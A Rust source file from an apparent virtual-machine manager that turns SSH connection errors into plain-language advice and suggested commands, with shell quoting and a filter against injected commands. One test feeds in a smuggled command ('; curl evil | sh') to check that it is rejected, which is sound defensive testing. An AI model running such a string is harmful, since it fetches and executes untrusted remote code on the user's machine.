//! What can go wrong with ssh.

use innkeeper_core::{ErrorKind, Uri};

use super::{Case, Guidance};
use crate::app::i18n::{gettext, gettext_f};

const PAGE: &str = "connect-ssh";

pub(super) fn headline(kind: &ErrorKind) -> Option<String> {
    Some(match kind {
        ErrorKind::SshMissing => gettext("The program ssh is missing"),
        ErrorKind::SshDenied => gettext("Signing in over SSH failed"),
        ErrorKind::SshHostKeyUnknown => gettext("The host’s key is not known"),
        ErrorKind::SshHostKeyChanged { .. } => gettext("The host’s key has changed"),
        ErrorKind::SshNoWay => gettext("The libvirt daemon cannot be reached over SSH"),
        ErrorKind::SshFailed => gettext("The SSH connection failed"),
        _ => return None,
    })
}

pub(super) fn guidance(case: &Case<'_>) -> Option<Guidance> {
    let guidance = match case.kind {
        ErrorKind::SshMissing => Guidance::new(gettext("Install the OpenSSH client."))
            .command(
                gettext("Debian, Ubuntu"),
                "sudo apt install openssh-client",
            )
            .command(gettext("Fedora"), "sudo dnf install openssh-clients"),
        ErrorKind::SshDenied => denied(case.uri),
        ErrorKind::SshHostKeyUnknown => Guidance::new(gettext(
            "Nobody has confirmed it, or the connection allows no questions. Compare the fingerprint with the host’s own before you trust it.",
        ))
        .command(
            gettext("On the host, shows its fingerprint"),
            "ssh-keygen -lf /etc/ssh/ssh_host_ed25519_key.pub",
        ),
        ErrorKind::SshHostKeyChanged {
            file,
            line,
            fingerprint,
        } => key_changed(case, file, *line, fingerprint),
        ErrorKind::SshNoWay => Guidance::new(gettext(
            "Signing in worked, but nothing on the host leads on to libvirt: is it installed and running there, and may this user manage it? sshd must forward sockets, or virt-ssh-helper or nc must be installed.",
        ))
        .command(
            gettext("On the host: Debian, Ubuntu"),
            "sudo apt install libvirt-daemon-system",
        )
        .command(
            gettext("On the host: Fedora"),
            "sudo dnf install @virtualization",
        ),
        ErrorKind::SshFailed => Guidance::new(gettext("What ssh says is under Details.")),
        _ => return None,
    };
    Some(guidance.help(PAGE))
}

fn denied(uri: Option<&Uri>) -> Guidance {
    let guidance = Guidance::new(gettext(
        "The host accepted neither a key of yours nor a password. Check the user name and the password.",
    ));
    let Some((uri, host)) = uri.and_then(|uri| Some((uri, uri.host()?))) else {
        return guidance;
    };
    let port = uri.port().map(|port| format!("-p {port} "));
    let user = uri.user().map(|user| format!("{user}@"));
    let (port, user) = (port.unwrap_or_default(), user.unwrap_or_default());
    guidance.command(
        gettext("Sign in with a key from now on"),
        format!("ssh-copy-id {port}{user}{host}"),
    )
}

/// There is no button that goes on nevertheless: who has put a machine in between would only wait for it.
fn key_changed(case: &Case<'_>, file: &str, line: u32, fingerprint: &str) -> Guidance {
    let (line, quoted) = (line.to_string(), quote(file));
    let guidance = Guidance::new(gettext_f(
        "Somebody may have put a machine in between that reads everything, or the host was installed anew. Line {line} of {file} remembers another key than the one that answers now. Ask the host’s administrator.",
        &[("line", &line), ("file", file)],
    ))
    .command(gettext("The key that answers now"), fingerprint)
    .command(
        gettext("Look at the remembered key"),
        format!("sed -n {line}p {quoted}"),
    );
    let removal = said_by_ssh(case.message)
        .or_else(|| Some(format!("ssh-keygen -f {quoted} -R {}", case.host()?)));
    match removal {
        Some(removal) => guidance.command(
            gettext("Only when the administrator has confirmed the new key: forget the old one"),
            removal,
        ),
        None => guidance,
    }
}

/// The command that ssh itself names; it knows under which name the key is kept.
fn said_by_ssh(message: &str) -> Option<String> {
    let mut lines = message.lines().map(str::trim);
    let line = lines.find(|line| line.starts_with("ssh-keygen -f ") && line.contains(" -R "))?;
    let is_harmless =
        |c: char| c.is_ascii_graphic() && !"`$;&|<>(){}!*?#\\".contains(c) || c == ' ';
    line.chars().all(is_harmless).then(|| line.to_owned())
}

/// Writes a file's name as one word of a shell.
fn quote(file: &str) -> String {
    let is_plain = |c: char| c.is_ascii_alphanumeric() || "/._-~".contains(c);
    if file.chars().all(is_plain) {
        return file.to_owned();
    }
    format!("'{}'", file.replace('\'', r"'\''"))
}

#[cfg(test)]
mod tests {
    use innkeeper_core::Error;

    use super::*;
    use crate::app::errors::UserFacing;

    fn changed(message: &str) -> Error {
        let kind = ErrorKind::SshHostKeyChanged {
            file: "/home/me/.ssh/known_hosts".to_owned(),
            line: 7,
            fingerprint: "SHA256:new".to_owned(),
        };
        Error::new(kind, message)
    }

    #[test]
    fn a_changed_key_names_its_place_and_offers_ssh_s_own_command() {
        let said = "  remove with:\n  ssh-keygen -f '/home/me/.ssh/known_hosts' -R '[h]:2222'\n";
        let guidance = changed(said).guidance(None);
        for part in ["7", "/home/me/.ssh/known_hosts"] {
            assert!(guidance.text.contains(part), "{part}");
        }
        assert_eq!(guidance.commands[0].command, "SHA256:new");
        let command = &guidance.commands.last().expect("a command").command;
        assert_eq!(
            command,
            "ssh-keygen -f '/home/me/.ssh/known_hosts' -R '[h]:2222'"
        );
    }

    #[test]
    fn a_host_cannot_slip_a_command_in() {
        let said = "ssh-keygen -f 'x' -R 'h'; curl evil | sh";
        let uri: Uri = "qemu+ssh://host.example/system".parse().expect("a URI");
        let guidance = changed(said).guidance(Some(&uri));
        let command = &guidance.commands.last().expect("a command").command;
        assert_eq!(
            command,
            "ssh-keygen -f /home/me/.ssh/known_hosts -R host.example"
        );
        assert_eq!(quote("a'b"), r"'a'\''b'");
    }

    #[test]
    fn a_key_is_copied_to_the_user_of_the_uri() {
        let uri: Uri = "qemu+ssh://me@h:2222/system".parse().expect("a URI");
        let guidance = Error::new(ErrorKind::SshDenied, "").guidance(Some(&uri));
        assert_eq!(guidance.commands[0].command, "ssh-copy-id -p 2222 me@h");
    }
}
